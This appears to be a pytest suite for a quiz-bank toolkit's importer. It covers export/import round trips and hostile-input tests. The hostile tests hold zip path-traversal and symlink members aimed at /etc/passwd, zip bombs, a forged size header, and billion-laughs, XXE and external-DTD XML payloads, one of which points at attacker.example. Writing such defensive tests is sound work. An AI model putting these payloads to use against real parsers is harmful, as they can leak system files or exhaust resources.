"""Import: round trips (export, then import) and hostile input."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import SHIPPED_BANK, TmpBank
from tests.exchange_helpers import fixed_bank, fixed_form
from toolkit.bank import load_bank
from toolkit.errors import DataError
from toolkit.exchange import IMPORTERS
from toolkit.exchange.delivery import from_form, from_items
from toolkit.exchange.export import export, zip_bytes
from toolkit.exchange.importing import DEFAULT_LIMITS, Limits, import_file, read_zip
from toolkit.exchange.xmlutil import parse_untrusted
from toolkit.markup import to_html
from toolkit.validate import validate_bank

ROUND_TRIP = [("qti21", "zip"), ("moodle", "xml"), ("gift", "txt")]


def _same(a: str, b: str) -> bool:
    """Equal as rendered HTML, up to whitespace and table-column alignment (which QTI's XHTML
    cannot hold and Markdown converters drop: a documented limit)."""

    def norm(text: str) -> str:
        return " ".join(re.sub(r' align="\w+"', "", to_html(text)).split())

    return norm(a) == norm(b)


def _assert_round_trip(originals, imported) -> None:  # type: ignore[no-untyped-def]
    assert len(imported) == len(originals)
    for orig, imp in zip(originals, imported, strict=True):
        assert _same(orig.stem, imp.stem), orig.id
        assert [o.correct for o in orig.options] == [o.correct for o in imp.options], orig.id
        for o, i in zip(orig.options, imp.options, strict=True):
            assert _same(o.text, i.text), (orig.id, o.id)
            assert _same(o.rationale, i.rationale), (orig.id, o.id)
        assert imp.goal == orig.learning_goal
        assert imp.multiple == (orig.select is not None)


@pytest.mark.parametrize(("fmt", "ext"), ROUND_TRIP)
def test_round_trip_of_the_fixed_bank(fmt: str, ext: str, tmp_path: Path) -> None:
    bank = fixed_bank(tmp_path / "bank", image=False)
    d = from_form(fixed_form(bank), bank)
    out = tmp_path / f"export.{ext}"
    export(d, fmt, out, {"feedback": "all"})
    imported, skipped = IMPORTERS.get(fmt).func(out.read_bytes(), str(out), DEFAULT_LIMITS)
    assert skipped == []
    _assert_round_trip(d.items, imported)


@pytest.mark.parametrize(("fmt", "ext"), ROUND_TRIP)
def test_round_trip_of_the_shipped_bank(fmt: str, ext: str, tmp_path: Path) -> None:
    bank = load_bank(SHIPPED_BANK)
    d = from_items(bank, ids=[i.id for i in bank.items[::4]])  # a quarter, to stay fast
    out = tmp_path / f"export.{ext}"
    export(d, fmt, out, {"feedback": "all"})
    imported, skipped = IMPORTERS.get(fmt).func(out.read_bytes(), str(out), DEFAULT_LIMITS)
    assert skipped == []
    _assert_round_trip(d.items, imported)


@pytest.mark.parametrize(("fmt", "ext"), ROUND_TRIP)
def test_import_writes_valid_draft_items_with_new_ids(fmt: str, ext: str, tmp_path: Path) -> None:
    source = fixed_bank(tmp_path / "source", image=False)
    out = tmp_path / f"export.{ext}"
    export(from_form(fixed_form(source), source), fmt, out, {"feedback": "all"})
    target = TmpBank(tmp_path / "target")
    result = import_file(load_bank(target.root), out, fmt, author="migrator")
    ids = list(result.written)
    assert len(ids) == 4 and len(set(ids)) == 4
    topics = [t.id for d in load_bank(target.root).blueprint.domains for t in d.topics]
    for new_id, path in result.written.items():  # ids follow the topic numbering (n01..n99)
        topic = path.parent.name.removeprefix("topic-")
        assert int(new_id[-4:]) // 100 == topics.index(topic) + 1
    assert result.titles[ids[0]] == "PMLE-0002"  # the form's first item
    report = validate_bank(target.root)
    assert report.ok, [d.message for d in report.errors]
    items = report.bank.by_id
    assert {i.status for i in items.values()} == {"draft"}
    assert items[ids[0]].type == "multiple_select" and items[ids[0]].select == 2
    again = import_file(load_bank(target.root), out, fmt, goal="3.1.1", dry_run=True)
    assert list(again.written) == ["PMLE-0701", "PMLE-0702", "PMLE-0703", "PMLE-0704"]
    assert all("topic-3.1" in str(p) for p in again.written.values())


def test_questions_without_a_goal_need_goal(tmp_path: Path) -> None:
    gift = tmp_path / "q.gift"
    gift.write_text("::Q1:: Which is prime? {=7 ~8 ~9 ~10}\n", encoding="utf-8")
    bank = load_bank(TmpBank(tmp_path / "bank").root)
    with pytest.raises(DataError, match="--goal"):
        import_file(bank, gift, "gift")
    result = import_file(bank, gift, "gift", goal="1.1.1", dry_run=True)
    assert list(result.written) == ["PMLE-0101"]


def test_unsupported_questions_are_skipped_and_reported(tmp_path: Path) -> None:
    gift = tmp_path / "q.gift"
    gift.write_text(
        "::TF:: The sky is blue. {T}\n\n::M:: Match {=a -> 1 =b -> 2}\n\n"
        "::Q:: Pick one {=yes ~no}\n",
        encoding="utf-8",
    )
    bank = load_bank(TmpBank(tmp_path / "bank").root)
    result = import_file(bank, gift, "gift", goal="1.1.1", dry_run=True)
    assert list(result.titles.values()) == ["Q"]
    assert len(result.skipped) == 2 and all(d.path == str(gift) for d in result.skipped)


# ------------------------------------------------------------------ hostile input


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


@pytest.mark.parametrize("name", ["../evil.xml", "a/../../evil.xml", "/etc/passwd", "C:/x.xml"])
def test_members_outside_the_archive_are_refused(name: str) -> None:
    with pytest.raises(DataError, match="outside the archive"):
        read_zip(_zip({"imsmanifest.xml": b"<x/>", name: b"<x/>"}), "hostile.zip")


def test_symbolic_links_are_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("link.xml")
        info.external_attr = (0o120777) << 16
        zf.writestr(info, "/etc/passwd")
    with pytest.raises(DataError, match="symbolic link"):
        read_zip(buf.getvalue(), "hostile.zip")


def test_too_many_members_are_refused() -> None:
    data = _zip({f"m{i}.xml": b"<x/>" for i in range(30)})
    with pytest.raises(DataError, match="30 members"):
        read_zip(data, "many.zip", Limits(max_members=20))


def test_a_zip_bomb_is_stopped_while_inflating() -> None:
    bomb = _zip({"items/big.xml": b"\0" * 5_000_000})
    assert len(bomb) < 20_000
    with pytest.raises(DataError, match="inflates past"):
        read_zip(bomb, "bomb.zip", Limits(max_member_bytes=1_000_000))
    with pytest.raises(DataError, match="inflates past"):
        read_zip(
            _zip({"a.xml": b"\0" * 600_000, "b.xml": b"\0" * 600_000}),
            "bomb.zip",
            Limits(max_total_bytes=1_000_000),
        )


def test_a_lying_size_header_does_not_help(tmp_path: Path) -> None:
    data = bytearray(_zip({"big.xml": b"A" * 2_000_000}))
    # shrink the declared uncompressed size in the central directory: reading must still stop
    idx = data.rfind(b"PK\x01\x02")
    data[idx + 24 : idx + 28] = (10).to_bytes(4, "little")
    with pytest.raises((DataError, zipfile.BadZipFile)):
        read_zip(bytes(data), "liar.zip", Limits(max_member_bytes=1_000_000))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<quiz><question type="multichoice"><name><text>&lol3;</text></name></question></quiz>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="multichoice"><name><text>&xxe;</text></name></question></quiz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd"><quiz/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, EXTERNAL_DTD])
def test_xml_with_entities_or_a_dtd_is_refused(doc: bytes, tmp_path: Path) -> None:
    with pytest.raises(DataError, match="DOCTYPE"):
        parse_untrusted(doc, "hostile.xml")
    path = tmp_path / "hostile.xml"
    path.write_bytes(doc)
    bank = load_bank(TmpBank(tmp_path / "bank").root)
    with pytest.raises(DataError):
        import_file(bank, path, "moodle", goal="1.1.1")
    assert not list((tmp_path / "bank" / "items").rglob("*.yaml"))


def test_hostile_qti_package_writes_nothing(tmp_path: Path) -> None:
    source = fixed_bank(tmp_path / "source", image=False)
    from toolkit.exchange.export import render

    files = render(from_form(fixed_form(source), source), "qti21")
    files["../../outside.xml"] = b"<x/>"
    path = tmp_path / "hostile.zip"
    path.write_bytes(zip_bytes(files))
    bank = load_bank(TmpBank(tmp_path / "bank").root)
    with pytest.raises(DataError, match="outside the archive"):
        import_file(bank, path, "qti21")
    assert not list((tmp_path / "bank" / "items").rglob("*.yaml"))
    assert not (tmp_path / "outside.xml").exists()


@given(
    st.text(alphabet=st.sampled_from(list("ab ~=#{}:\\%n\n")), min_size=1, max_size=40).filter(
        lambda t: t.strip() and "\n\n" not in t.strip()
    )
)
def test_gift_escaping_round_trips(text: str) -> None:
    """Whatever the text, escape() then the GIFT reader give it back."""
    from toolkit.exchange.gift import escape
    from toolkit.exchange.import_gift import import_gift

    src = f"::{escape(text)}::[markdown]{escape(text)}{{\n=right {escape(text)}\n~wrong\n}}\n"
    (item,), skipped = import_gift(src.encode(), "h.gift", DEFAULT_LIMITS)
    assert skipped == []
    assert item.title == text.strip()
    assert item.stem == text.strip()
    assert item.options[0].text == f"right {text}".strip() and item.options[0].correct
